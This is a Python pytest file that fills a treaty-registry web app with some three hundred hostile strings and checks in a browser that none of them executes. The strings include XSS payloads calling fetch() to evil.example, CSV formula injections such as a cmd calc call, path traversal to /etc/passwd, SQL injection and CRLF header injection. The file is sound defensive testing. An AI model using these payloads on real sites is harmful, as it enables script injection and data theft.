"""
Three hundred texts that mean harm, as names, titles, words and questions: shown, never obeyed.

A pack is made of them and served; then a real browser looks at its pages. Whatever a text could
start (a dialog, a script, a request, an error) is noticed by the reader of `conftest.py`.
"""

from __future__ import annotations

import csv
import io
import json
import unicodedata
import zipfile
from collections.abc import Iterator
from itertools import product
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from biruni.observatory.registry import Registry

CALLS = (
    "alert({n})", "print({n})", "fetch('//evil.example/{n}')", "window.pwned={n}",
    "location='//evil.example/{n}'",
)  # fmt: skip
MARKUP = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    '<img src=x onerror="{}">',
    '<svg onload="{}">',
    "<svg><script>{}</script></svg>",
    '"><img src=x onerror={}>',
    "'><svg onload={}>",
    '" onmouseover="{}" x="',
    '" autofocus onfocus="{}" x="',
    "javascript:{}",
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    '<a href="javascript:{}">here</a>',
    '<iframe srcdoc="<script>{}</script>">',
    "<details open ontoggle={}>",
    "<body onload={}>",
    "<math><mtext><script>{}</script>",
    "<template><script>{}</script>",
    '<object data="javascript:{}">',
    '<form><button formaction="javascript:{}" autofocus>x',
    "<base href=//evil.example/>{}",
    '<meta http-equiv=refresh content="0;url=javascript:{}">',
    "<link rel=stylesheet href=//evil.example/{}>",
    "{{{{ {} }}}}",
    "{{% raw %}}{}",
    "${{{}}}",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}",
    "＜script＞{}＜/script＞",
    "<scr\u200bipt>{}</script>",
    "<ſcript>{}</ſcript>",
    "<input autofocus onfocus={}>",
    "<marquee onstart={}>",
    "<style>@import '//evil.example/{}'</style>",
    "<video><source onerror={}>",
    "<x id=main>{}",
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    "\u202e<script>{}</script>",
)
FORMULAS = tuple(
    f"{sign}{body}"
    for sign in ("=", "+", "-", "@", "\uff1d", "'=", "|", "%")
    for body in ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("//evil.example")', "SUM(A1:A9)")
)
ODD = (
    "a" * 5000,
    "Ӯ" * 3000,
    "word " * 600,
    "\u202eytaert\u202c",
    "\u2066\u2067\u2068x\u2069",
    "\u200b\u200c\u200d.",
    "e" + "\u0301" * 400,
    "🏳️‍🌈" * 80,
    "Кazаkhstаn",
    "Қазақстан",
    "اتفاقية الصداقة",
    "חוזה הידידות",
    "友好条約" * 60,
    "／etc／passwd",
    "../../etc/passwd",
    "C:\\con\\aux",
    "' OR 1=1 --",
    "%00%0d%0aSet-Cookie:x=1",
    "%s%n{0}{x!r}",
    "NaN",
    "null",
    "undefined",
    "true",
    "[object Object]",
    "-0",
    "9" * 300,
    "http://" + "x" * 400 + ".example",
    "a\u00adb" * 200,
)
TEXTS = (
    *(
        mark.format(call.format(n=number))
        for number, (mark, call) in enumerate(product(MARKUP, CALLS))
    ),
    *FORMULAS,
    *ODD,
    *(f"{chr(0x202E)}{mark.format('alert(1)')}" for mark in MARKUP),
)
QUESTIONS = (*TEXTS[::7], *FORMULAS[:6], *ODD, "\0", "river\0", "\x1b[31m", "\r\nX: y", "\x7f")
PLACES = ("/search?q=", "/?lang=", "/changes?lang=en&since=", "/timeline?about=", "/cite?page=")
PER_PAGE = 25


def _written(text: str) -> str:
    """Return a text as YAML; what no pack may hold (control characters) is left out."""
    return json.dumps(
        "".join(each for each in text if unicodedata.category(each) != "Cc"), ensure_ascii=False
    )


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """A registry that holds every one of the texts, in every place that takes a text."""
    pack = tmp_path_factory.mktemp("hostile-pack")
    for folder in ("sources", "entities", "meetings", "actions"):
        (pack / folder).mkdir()
    (pack / "pack.yaml").write_text(
        f"id: wild\ntitle: {{en: {_written(TEXTS[0])}}}\nversion: 1\nlicence: CC-BY-4.0\n"
        f"citation: {_written(TEXTS[1])}\nhome: wild/source/registry\ncore: wild/group/core\n"
        "maintainers: [nobody]\n"
    )
    (pack / "sources/registry.yaml").write_text(
        "id: wild/source/registry\nlabel: {en: Editors}\nsource_kind: registry\n"
    )
    states = ("XAA", "XAB", "XAC")
    entities = [
        f"  - {{id: state/{state}, label: {{en: {_written(text)}}}}}"
        for state, text in zip(states, TEXTS[2:5], strict=True)
    ]
    entities.append(
        "  - id: wild/group/core\n    label: {en: Core}\n    says:\n"
        "      - {source: s0, at: x, member: {value: [XAA, XAB, XAC], role: member}}"
    )
    meetings = ["mechanism: wild/mechanism/m", "meetings:"]
    entities.append(
        f"  - id: wild/mechanism/m\n    label: {{en: {_written(TEXTS[5])}}}\n    says:\n"
        "      - {source: s0, at: x, layer: regional-core, form: summit, core: wild/group/core,"
        " member: {value: [XAA, XAB, XAC], role: member}}"
    )
    for number, text in enumerate(TEXTS):
        said = _written(text)
        (pack / f"sources/s{number}.yaml").write_text(
            f"id: wild/source/s{number}\nlabel: {{en: {said}}}\ntitle: {{en: {said}}}\n"
            f"publisher: {said}\npublished: 2020-01-01\nlanguage: en\nsource_kind: media\n"
            f"address: {_written('https://example.org/' + quote(text)[:400])}\n"
        )
        entities.append(
            f"  - id: wild/instrument/i{number}\n    label: {{en: {said}}}\n    alias: [{said}]\n"
            f"    says:\n      - source: s{number}\n        at: {said}\n        note: {said}\n"
            f"        title: {{en: {said}}}\n        content: {said}\n"
            f"        place: {{value: {said}, words: {said}}}\n"
            f"        instrument_kind: treaty\n        signed: 2020-01-{number % 28 + 1:02}\n"
            f"        access: not_public"
        )
        if number < 40:
            meetings.append(
                f"  - id: wild/meeting/m{number}\n    label: {{en: {said}}}\n    says:\n"
                f"      - {{source: s{number}, at: {said}, start: 2020-02-{number % 28 + 1:02},"
                f" place: {said}, level: head_of_state, status: held}}"
            )
    (pack / "entities/all.yaml").write_text("entities:\n" + "\n".join(entities) + "\n")
    (pack / "meetings/m.yaml").write_text("\n".join(meetings) + "\n")
    home = tmp_path_factory.mktemp("hostile-home")
    with Registry.open(home, create=True) as registry:
        registry.build(pack, now="2024-01-01T00:00:00Z")
    return home


@pytest.fixture(scope="module")
def site(hostile: Path, browsing: Any) -> Iterator[str]:
    """The hostile registry, served."""
    with browsing.serving(hostile) as address:
        yield address


def _asleep(page: Any) -> None:
    """Nothing ran, nothing foreign became part of the page."""
    assert page.evaluate("window.pwned") is None
    foreign = "script:not([src^='/static/']), iframe, object, embed, base, meta[http-equiv=refresh]"
    assert page.locator(foreign).count() == 0
    assert page.locator("main img, main video, main marquee, main style:not(svg *)").count() == 0
    handlers = """[...document.querySelectorAll("*")].filter((each) =>
        [...each.attributes].some((one) => one.name.startsWith("on"))).length"""
    assert page.evaluate(handlers) == 0
    assert page.locator("a[href^='javascript:' i], form[action^='javascript:' i]").count() == 0


def test_there_are_three_hundred():
    """Enough of them, and no two the same."""
    assert len(set(TEXTS)) >= 300


@pytest.mark.parametrize(
    "path", ["/", "/instruments", "/mechanisms", "/sources", "/holes", "/changes", "/timeline"]
)
def test_pages_that_list_them_all(reading, site, path):
    """As names, titles, places and remarks, on a phone: nothing runs, nothing is wider."""
    reader = reading(site, width="phone")
    page = reader.open(
        f"{path}{'?since=2019-12-01&' if path == '/changes' else '?'}as_of=2021-01-01"
    )
    page.mouse.move(150, 500)
    _asleep(page)
    assert reader.wider() == []


def test_pages_of_each(reading, site):
    """The page of an instrument and that of its source, for a share of the texts of each kind."""
    reader = reading(site, width="phone")
    first = len(MARKUP) * len(CALLS)
    for number in (*range(0, first, PER_PAGE), *range(first, len(TEXTS), 6)):
        for path in (f"/wild/instrument/i{number}", f"/wild/source/s{number}"):
            page = reader.open(path)
            _asleep(page)
            assert reader.wider() == [], TEXTS[number]


def test_questions(reading, site):
    """As a question, every text is answered with a page, be it one that says no."""
    reader = reading(site, width="phone")
    for number, text in enumerate(QUESTIONS):
        asked = quote(text.encode("utf-8", "replace"), safe="")[:6000]
        answer = reader.page.goto(site + PLACES[number % len(PLACES)] + asked)
        assert answer.status in (200, 400, 404, 414, 422, 431), text
        _asleep(reader.page)
        assert reader.wider() == [], text
        # a page that says no is an answer, no fault
        said_no = f"{answer.status} for "
        reader.troubles = [
            each
            for each in reader.troubles
            if "Failed to load" not in each and not each.startswith(said_no)
        ]


def test_files_cannot_be_run(hostile: Path):
    """A spreadsheet program runs no cell of a table that somebody takes away."""
    from starlette.testclient import TestClient

    from biruni.web.site import create_app

    with TestClient(create_app(lambda: Registry.open(hostile))) as client:
        body = client.get("/instruments.zip?as_of=2021-01-01").content
        single = client.get("/holes.csv?as_of=2021-01-01").content
    tables = [single]
    with zipfile.ZipFile(io.BytesIO(body)) as folder:
        for name in folder.namelist():
            assert not name.startswith(("/", "\\"))
            assert ".." not in name
            tables += [folder.read(name)] if name.endswith(".csv") else []
    cells = [
        cell
        for table in tables
        for row in csv.reader(io.StringIO(table.decode("utf-8-sig")))
        for cell in row
    ]
    assert len(cells) > 2 * len(FORMULAS)
    assert any("HYPERLINK" in cell for cell in cells)
    assert [cell for cell in cells if cell[:1] in tuple("=+@\t\r") or cell.startswith("-c")] == []
